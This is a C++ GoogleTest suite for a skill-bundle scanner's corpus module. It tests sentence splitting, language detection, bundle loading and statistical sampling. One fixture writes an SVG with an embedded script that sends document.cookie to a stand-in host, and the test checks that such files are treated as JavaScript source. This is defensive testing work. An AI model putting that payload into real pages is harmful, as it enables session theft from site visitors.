#include <cmath>
#include <random>
#include <set>

#include <gtest/gtest.h>

#include "skillscan/corpus.hpp"
#include "test_util.hpp"

using namespace skillscan;
using skillscan::testing::TempDir;

namespace {

std::vector<std::string> sentence_texts(const std::string& text) {
    std::vector<std::string> out;
    for (const auto& s : split_sentences(text)) out.push_back(text.substr(s.start, s.size()));
    return out;
}

SkillBundle named(const std::string& id, const std::string& category) {
    SkillBundle b;
    b.skill_id = id;
    b.category = category;
    return b;
}

}  // namespace

TEST(SplitSentences, PunctuationBoundaries) {
    EXPECT_EQ(sentence_texts("One. Two! Three?"), (std::vector<std::string>{"One.", "Two!", "Three?"}));
}

TEST(SplitSentences, DecimalPointIsNotABoundary) {
    EXPECT_EQ(sentence_texts("Version 1.5 works. Done"), (std::vector<std::string>{"Version 1.5 works.", "Done"}));
}

TEST(SplitSentences, HeadingsListsAndBlankLines) {
    const std::string text = "# Title\nIntro line\n\nSecond para\n- item one\n- item two\n";
    EXPECT_EQ(sentence_texts(text),
              (std::vector<std::string>{"# Title", "Intro line", "Second para", "- item one", "- item two"}));
}

TEST(SplitSentences, SpansAreOrderedAndDisjoint) {
    const std::string text = "A b. C d!\n\n## H\n1. first\n2. second. More?   ";
    const auto spans = split_sentences(text);
    ASSERT_FALSE(spans.empty());
    for (std::size_t i = 0; i < spans.size(); ++i) {
        EXPECT_LT(spans[i].start, spans[i].end);
        EXPECT_LE(spans[i].end, text.size());
        if (i > 0) {
            EXPECT_LE(spans[i - 1].end, spans[i].start);
        }
    }
}

TEST(SplitSentences, EmptyText) { EXPECT_TRUE(split_sentences("").empty()); }

TEST(DetectLanguage, ExtensionFirst) {
    EXPECT_EQ(detect_language("a.py", ""), Language::Python);
    EXPECT_EQ(detect_language("lib/index.js", ""), Language::JavaScript);
    EXPECT_EQ(detect_language("src/main.ts", ""), Language::JavaScript);
    EXPECT_EQ(detect_language("run.sh", ""), Language::Shell);
    EXPECT_EQ(detect_language("data.bin", ""), Language::Other);
}

TEST(DetectLanguage, ShebangFallbackAndDisagreement) {
    EXPECT_EQ(detect_language("install", "#!/bin/bash\necho hi\n"), Language::Shell);
    EXPECT_EQ(detect_language("tool", "#!/usr/bin/env python3\nprint(1)\n"), Language::Python);
    EXPECT_EQ(detect_language("tool.py", "#!/bin/sh\necho hi\n"), Language::Other);
}

TEST(LoadBundle, SkillWithPythonScript) {
    TempDir dir;
    dir.write("SKILL.md", "# Fetch\nFetches things.\n");
    dir.write("scripts/fetch.py", "print('hi')\n");
    const auto b = load_bundle(dir.path());
    ASSERT_EQ(b.nl_documents.size(), 1u);
    ASSERT_EQ(b.source_files.size(), 1u);
    EXPECT_EQ(b.source_files[0].language, Language::Python);
    EXPECT_EQ(b.source_files[0].relative_path, "scripts/fetch.py");
    EXPECT_EQ(b.skill_id, dir.path().filename().string());
}

TEST(LoadBundle, SkillWithIndexJs) {
    TempDir dir;
    dir.write("SKILL.md", "Fetch weather forecasts\n");
    dir.write("index.js", "fetch(x);\n");
    const auto b = load_bundle(dir.path(), "weather");
    EXPECT_EQ(b.skill_id, "weather");
    ASSERT_EQ(b.source_files.size(), 1u);
    EXPECT_EQ(b.source_files[0].language, Language::JavaScript);
}

TEST(LoadBundle, SvgWithScriptIsJavaScriptSource) {
    TempDir dir;
    dir.write("logo.svg", "<svg><script>fetch('https://x.example/'+document.cookie)</script></svg>\n");
    const auto b = load_bundle(dir.path());
    ASSERT_EQ(b.source_files.size(), 1u);
    EXPECT_EQ(b.source_files[0].language, Language::JavaScript);
    EXPECT_TRUE(b.source_files[0].markup_container);
}

TEST(LoadBundle, SvgWithoutScriptIsSkipped) {
    TempDir dir;
    dir.write("SKILL.md", "x\n");
    dir.write("logo.svg", "<svg><circle r='1'/></svg>\n");
    const auto b = load_bundle(dir.path());
    EXPECT_TRUE(b.source_files.empty());
    ASSERT_EQ(b.skipped.size(), 1u);
    EXPECT_EQ(b.skipped[0].relative_path, "logo.svg");
    EXPECT_FALSE(b.skipped[0].reason.empty());
}

TEST(LoadBundle, Errors) {
    TempDir dir;
    EXPECT_THROW(load_bundle(dir.path() / "missing"), IoError);
    EXPECT_THROW(load_bundle(dir.path()), InputError);
}

TEST(LoadBundle, PartitionAccountsForEveryFile) {
    TempDir dir;
    const std::vector<std::pair<std::string, std::string>> files = {
        {"SKILL.md", "# a\n"},          {"README.txt", "read me\n"},      {"a.py", "x = 1\n"},
        {"b/c.js", "let y = 2;\n"},     {"d.sh", "echo hi\n"},            {"img.png", std::string("\x89PNG\0\1", 6)},
        {"conf/app.json", "{}\n"},      {"e/f/g.ts", "let z: number;\n"}, {"noext", "plain\n"},
        {".env", "TOKEN=abc\n"},
    };
    for (const auto& [p, c] : files) dir.write(p, c);
    const auto b = load_bundle(dir.path());
    EXPECT_EQ(b.nl_documents.size() + b.source_files.size() + b.skipped.size(), files.size());
    std::set<std::string> seen;
    for (const auto& d : b.nl_documents) EXPECT_TRUE(seen.insert(d.relative_path).second);
    for (const auto& s : b.source_files) EXPECT_TRUE(seen.insert(s.relative_path).second);
    for (const auto& s : b.skipped) EXPECT_TRUE(seen.insert(s.relative_path).second);
}

TEST(LoadCorpus, ManifestFixture) {
    const auto snap = load_corpus(skillscan::testing::fixtures_dir() / "listings");
    ASSERT_EQ(snap.bundles.size(), 6u);
    EXPECT_EQ(snap.population_size, 6u);
    EXPECT_EQ(snap.timestamp, "2026-01-15T00:00:00Z");
    EXPECT_EQ(snap.bundles[0].skill_id, "listing1");
    EXPECT_EQ(snap.bundles[0].category, std::optional<std::string>("Web Scraping"));
    EXPECT_NO_THROW(validate_snapshot(snap));
}

TEST(LoadCorpus, SubdirectoriesAndSingleBundle) {
    TempDir dir;
    dir.write("one/SKILL.md", "a\n");
    dir.write("two/SKILL.md", "b\n");
    const auto snap = load_corpus(dir.path());
    ASSERT_EQ(snap.bundles.size(), 2u);
    EXPECT_EQ(snap.population_size, 2u);

    const auto single = load_corpus(dir.path() / "one");
    ASSERT_EQ(single.bundles.size(), 1u);
    EXPECT_EQ(single.bundles[0].skill_id, "one");
}

TEST(ValidateSnapshot, DuplicatesAndPopulation) {
    CorpusSnapshot s;
    s.bundles = {named("a", "X"), named("a", "X")};
    s.population_size = 5;
    EXPECT_THROW(validate_snapshot(s), InputError);
    s.bundles[1].skill_id = "b";
    s.population_size = 1;
    EXPECT_THROW(validate_snapshot(s), InputError);
    s.population_size = 2;
    EXPECT_NO_THROW(validate_snapshot(s));
}

TEST(NormalQuantile, TableValues) {
    // Standard normal table.
    EXPECT_NEAR(normal_quantile(0.975), 1.959964, 1e-6);
    EXPECT_NEAR(normal_quantile(0.995), 2.575829, 1e-6);
    EXPECT_NEAR(normal_quantile(0.5), 0.0, 1e-12);
    EXPECT_NEAR(normal_quantile(0.025), -1.959964, 1e-6);
    EXPECT_THROW(normal_quantile(0.0), ArgumentError);
    EXPECT_THROW(normal_quantile(1.0), ArgumentError);
}

TEST(RequiredSampleSize, Examples) {
    EXPECT_EQ(required_sample_size(1, 0.99, 0.01), 1u);
    // 1.96^2 * 0.25 / 0.05^2 = 384.16 -> 385; correction is negligible at N = 1e9.
    EXPECT_EQ(required_sample_size(1000000000, 0.95, 0.05), 385u);
    const auto n = required_sample_size(170226, 0.99, 0.01);
    EXPECT_LE(n, 17022u);
    // z = 2.5758 from a printed table: n0 = 16586.86, n = n0 / (1 + (n0 - 1) / N) = 15114.2.
    const double z = 2.5758;
    const double n0 = z * z * 0.25 / (0.01 * 0.01);
    const double hand = n0 / (1.0 + (n0 - 1.0) / 170226.0);
    EXPECT_NEAR(static_cast<double>(n), hand, 1.0);
    EXPECT_EQ(n, 15115u);
}

TEST(RequiredSampleSize, RejectsBadArguments) {
    EXPECT_THROW(required_sample_size(0, 0.95, 0.05), ArgumentError);
    EXPECT_THROW(required_sample_size(10, 0.95, 0.0), ArgumentError);
    EXPECT_THROW(required_sample_size(10, 0.95, 1.0), ArgumentError);
    EXPECT_THROW(required_sample_size(10, 0.4, 0.05), ArgumentError);
    EXPECT_THROW(required_sample_size(10, 1.0, 0.05), ArgumentError);
    EXPECT_THROW(required_sample_size(10, 0.95, 0.05, 0.0), ArgumentError);
}

TEST(RequiredSampleSize, Monotonicity) {
    std::mt19937_64 rng(7);
    std::uniform_int_distribution<std::size_t> pop(1, 2000000);
    std::uniform_real_distribution<double> conf(0.5, 0.999), margin(0.005, 0.3);
    for (int i = 0; i < 500; ++i) {
        const auto n = pop(rng);
        const double c = conf(rng), e = margin(rng);
        const auto base = required_sample_size(n, c, e);
        EXPECT_LE(base, n);
        EXPECT_LE(base, required_sample_size(n, std::min(0.9999, c + 0.01), e));
        EXPECT_GE(base, required_sample_size(n, c, std::min(0.99, e + 0.01)));
        EXPECT_LE(base, required_sample_size(n + 1000, c, e));
    }
}

TEST(AllocateStrata, ExactProportionalSplit) {
    const auto a = allocate_strata({{"A", 60}, {"B", 40}}, 0.1);
    EXPECT_EQ(a.at("A"), 6u);
    EXPECT_EQ(a.at("B"), 4u);
}

TEST(AllocateStrata, LargestRemainderTieGoesToSmallerName) {
    // Quotas 3.5 and 1.5: floors give 4 of 5, the tied remainder goes to "A".
    const auto a = allocate_strata({{"A", 7}, {"B", 3}}, 0.5);
    EXPECT_EQ(a.at("A"), 4u);
    EXPECT_EQ(a.at("B"), 1u);
}

TEST(AllocateStrata, TotalWithinStrataCount) {
    std::mt19937_64 rng(11);
    for (int trial = 0; trial < 200; ++trial) {
        std::map<std::string, std::size_t> sizes;
        std::size_t total = 0;
        const int k = 1 + static_cast<int>(rng() % 8);
        for (int i = 0; i < k; ++i) {
            const std::size_t n = 1 + rng() % 50;
            sizes["s" + std::to_string(i)] = n;
            total += n;
        }
        const double f = 0.01 + static_cast<double>(rng() % 99) / 100.0;
        std::size_t picked = 0;
        for (const auto& [name, n] : allocate_strata(sizes, f)) {
            EXPECT_LE(n, sizes.at(name));
            picked += n;
        }
        const double target = std::round(f * static_cast<double>(total));
        EXPECT_LE(std::fabs(static_cast<double>(picked) - target), static_cast<double>(k));
    }
}

TEST(StratifiedSample, DeterministicAndProportional) {
    CorpusSnapshot s;
    for (int i = 0; i < 60; ++i) s.bundles.push_back(named("a" + std::to_string(i), "A"));
    for (int i = 0; i < 40; ++i) s.bundles.push_back(named("b" + std::to_string(i), "B"));
    s.population_size = 100;
    const auto x = stratified_sample(s, 0.1, 42);
    const auto y = stratified_sample(s, 0.1, 42);
    ASSERT_EQ(x.size(), 10u);
    std::size_t from_a = 0;
    for (std::size_t i = 0; i < x.size(); ++i) {
        EXPECT_EQ(x[i].skill_id, y[i].skill_id);
        if (x[i].category == std::optional<std::string>("A")) ++from_a;
    }
    EXPECT_EQ(from_a, 6u);
}

TEST(StratifiedSample, FullFractionAndMissingCategory) {
    CorpusSnapshot s;
    s.bundles = {named("x", "A"), named("y", "B")};
    s.bundles.push_back(SkillBundle{});
    s.bundles.back().skill_id = "z";
    s.population_size = 3;
    const auto all = stratified_sample(s, 1.0, 3);
    ASSERT_EQ(all.size(), 3u);
    EXPECT_EQ(all[2].skill_id, "z");
    EXPECT_THROW(stratified_sample(CorpusSnapshot{}, 0.5, 1), ArgumentError);
    EXPECT_THROW(stratified_sample(s, 0.0, 1), ArgumentError);
}
